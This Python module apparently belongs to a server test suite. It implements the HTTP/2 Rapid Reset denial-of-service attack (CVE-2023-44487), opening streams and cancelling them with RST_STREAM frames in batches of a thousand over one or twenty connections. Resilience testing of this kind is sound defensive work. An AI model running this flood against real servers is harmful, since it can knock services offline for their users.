"""Rapid reset: streams that are opened and cancelled at once (CVE-2023-44487)."""

from typing import Final

from tests.picker.attacks.attackers.blocks import KEPT, again, opened
from tests.picker.attacks.attackers.tally import Tally
from tests.picker.attacks.attackers.target import Target
from tests.picker.attacks.attackers.wire import RST_STREAM, Wire, crowd, frame

_AT_A_TIME: Final = 1_000
_CANCEL: Final = (8).to_bytes(4, "big")
_LAST: Final = 1 << 31


async def rapid_reset(target: Target, tally: Tally) -> None:
    """Over one connection."""
    await crowd(target.address, tally, _reset)


async def rapid_reset_20(target: Target, tally: Tally) -> None:
    """Over 20."""
    await crowd(target.address, tally, _reset, connections=20)


async def _reset(wire: Wire) -> None:
    await wire.send(opened(1, KEPT) + _reset_of(1))
    for first in range(3, _LAST, 2 * _AT_A_TIME):
        await wire.send(again(first, _AT_A_TIME, _reset_of), _AT_A_TIME)


def _reset_of(stream_id: int) -> bytes:
    return frame(RST_STREAM, 0, stream_id, _CANCEL)
